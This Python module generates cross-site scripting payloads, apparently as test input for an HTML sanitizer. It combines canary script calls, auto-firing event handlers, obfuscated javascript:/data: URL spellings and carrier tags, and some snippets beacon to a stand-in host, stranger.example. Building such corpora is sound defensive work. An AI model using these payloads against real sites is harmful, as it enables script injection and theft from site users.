"""Ways in which a script would mark that it ran, and ways in which it is brought into a page. All written here."""
# ruff: noqa: SIM905 - a table of words reads best as words

from collections.abc import Callable

STRANGER = "stranger.example"  # whatever would be loaded would be loaded from here
MARK = "marked"  # the function that a watched page gives to every script

# Without quotes, spaces and angle brackets, so that they may stand in any attribute.
_BARE = (
    "marked({n})",
    "window.marked({n})",
    "top.marked({n})",
    "self[/marked/.source]({n})",
    "[{n}].map(marked)",
    "marked`{n}`",
    "(0,marked)({n})",
    "alert({n})",
    "confirm({n})",
    "parent.prompt({n})",
    "Reflect.apply(marked,null,[{n}])",
    "marked.call(this,{n})",
    "globalThis.marked({n})",
    "\\u006darked({n})",
    "Function(/marked({n})/.source)()",
    "frames.marked({n})",
    "queueMicrotask(marked.bind(null,{n}))",
)
# With single quotes, for places that allow them.
_QUOTED = (
    "setTimeout('marked({n})')",
    "eval('mark'+'ed({n})')",
    "Function('marked({n})')()",
    "window['mar'+'ked']({n})",
    "import('data:text/javascript,marked({n})')",
    "location='javascript:marked({n})'",
    "new Image().src='//v{n}.stranger.example/'",
    "fetch('//v{n}.stranger.example/')",
    "open('//v{n}.stranger.example/')",
    "[].constructor.constructor('marked({n})')()",
    "document.body.append(Object.assign(document.createElement('script'),{{text:'marked({n})'}}))",
)


def bare(n: int) -> str:
    """A script that marks `n` and may stand unquoted."""
    return _BARE[n % len(_BARE)].format(n=n)


def script(n: int) -> str:
    """A script that marks `n`, in single quotes at most."""
    ways = (*_BARE, *_QUOTED)
    return ways[n % len(ways)].format(n=n)


# --- spellings of a tag with an event that fires by itself ---------------------------------------------------------

_SEPARATORS = (" ", "/", "\t", "\n", "\x0c", " / ", "\r\n", "/x=y ")
EVENTS = (
    *("click dblclick mousedown mouseup mousemove mouseover mouseout mouseenter mouseleave wheel contextmenu").split(),
    *("keydown keyup keypress focus blur focusin focusout input change invalid select submit reset").split(),
    *(
        "pointerdown pointerup pointerover pointerenter pointermove gotpointercapture touchstart touchend touchmove"
    ).split(),
    *("drag dragstart dragend dragenter dragover dragleave drop copy cut paste beforecopy beforeinput search").split(),
    *(
        "load error abort loadstart progress suspend stalled emptied canplay play playing pause timeupdate ended"
    ).split(),
    *(
        "volumechange durationchange loadeddata loadedmetadata cuechange seeking toggle beforetoggle close cancel"
    ).split(),
    *(
        "animationstart animationend animationiteration transitionrun transitionstart transitionend scroll scrollend"
    ).split(),
    *(
        "resize hashchange popstate pageshow pagehide beforeunload message storage online offline begin end repeat"
    ).split(),
    *(
        "securitypolicyviolation slotchange formdata webkitanimationstart fullscreenchange contentvisibilityautostatechange"
    ).split(),
)
_BEARERS = (
    *("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "select autofocus"),
    *(
        "button",
        "a href=#",
        "p",
        "table",
        "marquee",
        "iframe",
        "object data=x",
        "form",
        "math",
        "x-own",
        "div tabindex=0",
    ),
    *(
        "textarea autofocus",
        "b style=animation-name:pulse",
        "image src=x",
        "dialog open",
        "track src=x",
        "keygen autofocus",
    ),
)


def handlers(n: int, event: int) -> tuple[str, str]:
    """An event that runs a script on some element, in two spellings."""
    bearer, separator = _BEARERS[n % len(_BEARERS)], _SEPARATORS[n % len(_SEPARATORS)]
    name = f"on{EVENTS[event]}"
    return (
        f"<{bearer} {name}={bare(n)}>word",
        f'<{bearer.upper()}{separator}{name.title()}\t=\n"{script(n)}">word</{bearer.split()[0]}>',
    )


# --- addresses that are scripts ------------------------------------------------------------------------------------


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(letter):05x}" + ";" * (place % 2) for place, letter in enumerate(text))


SPELLINGS: tuple[Callable[[int], str], ...] = (
    lambda n: f"javascript:{bare(n)}",
    lambda n: f"JaVaScRiPt:{bare(n)}",
    lambda n: f"java\tscript:{bare(n)}",
    lambda n: f"java\nscript\r:{bare(n)}",
    lambda n: f"\x01\x1f javascript:{bare(n)}",
    lambda n: f"java&Tab;script&colon;{bare(n)}",
    lambda n: f"java&NewLine;script&#58;{bare(n)}",
    lambda n: _entities("javascript:") + bare(n),
    lambda n: _hexadecimal("javascript:") + bare(n),
    lambda n: f"javascript://v{n}.{STRANGER}/%0a{bare(n)}",
    lambda n: f"javascript:%6darked({n})",
    lambda n: f"javascript:void({bare(n)})//https://a.example/",
    lambda n: f"&#1;javascript&#x3A;{bare(n)}",
    lambda n: f"data:text/html,<script>{bare(n)}</script>".replace("<", "&lt;").replace(">", "&gt;"),
    lambda n: f"data:text/html;charset=utf-7,+ADw-script+AD4-{bare(n)}+ADw-/script+AD4-",
    lambda n: f"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='marked({n})'/%3E",
    lambda n: f"vbscript:marked({n})",
    lambda n: f"livescript:{bare(n)}",
    lambda n: f"view-source:javascript:{bare(n)}",
    lambda n: f"feed:javascript:{bare(n)}",
    lambda n: f"jar:javascript:{bare(n)}!/",
    lambda n: f"blob:javascript:{bare(n)}",
    lambda n: f"https:javascript:{bare(n)}",
    lambda n: f"\u2028javascript:{bare(n)}",
    lambda n: f"javascript\u200b:{bare(n)}",
)
CARRIERS = (
    '<a href="{u}">word</a>',
    "<a href='{u}' target=_self>word</a>",
    '<a href="https://a.example/" href="{u}" ping="//v{n}.stranger.example/">word</a>',
    '<map name=m{n}><area shape=default href="{u}"></map><img usemap=#m{n} src=x>',
    '<form action="{u}"><input type=submit></form>',
    '<form><button formaction="{u}">word</button></form>',
    '<form id=f{n}></form><input type=image form=f{n} formaction="{u}" src=x>',
    '<iframe src="{u}"></iframe>',
    '<frameset><frame src="{u}"></frameset>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<svg><a href="{u}"><text y=20>word</text></a></svg>',
    '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{u}"><text y=20>word</text></a></svg>',
    '<math href="{u}"><mi>word</mi></math>',
    '<svg><use href="{u}"/></svg>',
    '<svg><a><animate attributeName=href values="{u}"/><text y=20>word</text></a></svg>',
    '<svg><a><set attributeName="xlink:href" to="{u}"/><text y=20>word</text></a></svg>',
    '<base href="{u}/"><a href="#">word</a>',
    '<img src="{u}" srcset="{u} 2x">',
    '<video poster="{u}" src="{u}"></video>',
    '<picture><source srcset="{u}"><img src=x></picture>',
    '<link rel=stylesheet href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<body background="{u}">',
    '<table background="{u}"><tr><td background="{u}">word</table>',
    '<div style="background:url({u})">word</div>',
    '<blockquote cite="{u}">word</blockquote>',
    '<img data-src="{u}" src=x>',
    '<img longdesc="{u}" src="x" lowsrc="{u}" dynsrc="{u}">',
    '<ins cite="{u}">word</ins>',
)
